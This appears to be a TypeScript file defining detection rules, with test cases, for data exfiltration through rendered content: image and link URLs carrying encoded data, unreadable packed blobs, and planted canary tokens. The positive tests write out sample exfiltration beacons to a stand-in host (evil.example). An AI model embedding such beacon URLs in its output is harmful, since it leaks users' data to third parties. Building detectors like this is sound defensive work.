// Rules for what carries data out by being shown, and for what was planted to tell that it does.

export const carrierRules = `
rules:
  - id: image-with-payload
    kind: exfiltration
    description: an address that is fetched when the text is shown, with room for data in it
    source: CommonMark images; HTML, attributes that embed; CSS, url()
    severity: high
    confidence: high
    container: true
    match: {beacon: {payloadBytesMin: 32}}
    tests:
      positive:
        - '![logo](«https://evil.example/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA») and text'
        - '![](«https://evil.example/c/the+meeting+is+on+friday+at+noon+in+berlin.png»)'
        - '<img width=1 src="«https://evil.example/x?user=alice&note=the%20launch%20is%20on%20friday»">'
      negative:
        - '![logo](https://example.com/assets/logo.png) and [a link](https://example.com/?q=the+meeting+is+on+friday+at+noon)'
        - '<a href="https://example.com/?q=the+meeting+is+on+friday+at+noon">x</a>'
        - 'https://example.com/?q=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA'
        - '<img src="https://example.com/a.png?v=12">'
  - id: unread-packed-data
    kind: packed
    description: compressed data in base64 or hex that is damaged or becomes too long, so that it is not known what is in it
    source: RFC 1950, RFC 1952
    severity: medium
    confidence: high
    match: {packed: {}}
    tests:
      positive:
        - '«H4sIAAAAAAAAAwAsANP/dGhlIHdvcmRzIG9mIGEgdGV4dCB0aGF0IG5vYm9keSBjYW4gcmVhZCBvbi4HAAAAAAAAAAA»'
      negative:
        - 'H4sIAAAAAAACAyvPL0opVshPU0hUKEmtKFEozyzJUMjLL8nIzEtXyMxTyCxRSASinBwAk0mP+CkAAAA and H4sI alone'

  - id: link-with-payload
    kind: exfiltration
    description: an address that carries text in an encoding, a sentence, a very long value, or data in the names of its host
    source: RFC 3986; RFC 4648; RFC 1035, labels
    severity: high
    confidence: high
    container: true
    match: {link: {textBytesMin: 28, wordsMin: 12, valueBytesMin: 512}}
    allow:
      contains: ['://www.w3.org/']
    tests:
      positive:
        - 'see [the report](«https://evil.example/r?d=dGhlIG1lZXRpbmcgaXMgb24gZnJpZGF5IGF0IG5vb24gaW4gYmVybGlu») now'
        - '[1]: «https://evil.example/dGhlIG1lZXRpbmcgaXMgb24gZnJpZGF5IGF0IG5vb24gaW4gYmVybGlu/x.html»'
        - '<a href="«https://evil.example/r#746865206d656574696e67206973206f6e20667269646179206174206e6f6f6e»">x</a>'
        - '<form action=''«//evil.example/r?d=dGhlIG1lZXRpbmcgaXMgb24gZnJpZGF5IGF0IG5vb24gaW4gYmVybGlu»''>'
        - '<«https://evil.example/?q=the+meeting+with+the+board+is+on+friday+at+noon+in+the+room+behind+the+old+library+in+berlin»>'
        - 'ping «http://orugkidnmvsxi2lom4qgs4zan5xca.evil.example/x» at once'
        - 'ping «http://746865206d656574.696e67206973206f6e.evil.example/x/y» at once'
        - 'ping «http://mf2gk3tjn5xcayl0bq9wc3dfoj5hi1lwmfzxg8kq.evil.example/x» at once'
      negative:
        - '[a link](https://example.com/?q=the+meeting+is+on+friday+at+noon)'
        - 'https://example.com/2024/05/how-to-write-a-very-long-title-for-an-article-about-nothing-in-particular.html'
        - 'https://example.com/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'
        - 'https://example.com/u?id=7Fq2mZ8xK1vB4nR9tY6wC3eH0jL5pS2dG7aU4iO1kM8bV3cX6zN9qT2rW5yE&s=1'
        - 'https://d111111abcdef8.cloudfront.net/assets/main.8f3b2c1d9e7a6f5b4c3d.js?v=20240501'
        - 'https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.example.com/x'
  - id: canary
    kind: canary
    description: a text that an operator planted and that must never leave; without a key the example alone
    source: this product, spc_ and base32 of an id and of its keyed digest
    severity: critical
    confidence: high
    container: true
    match: {canary: {}}
    tests:
      positive:
        - 'the list says «spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjjj» and more'
        - '«SPC_AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHHIIIIJJJJ»@example.com'
        - 'https://example.com/x«spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjjj».png'
      negative:
        - 'spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjjk'
        - 'spc_aaaabbbbccccddddeeeeffffgggghhhhiiiijjj'
        - 'spc_1aaabbbbccccddddeeeeffffgggghhhhiiiijjjj'
`;
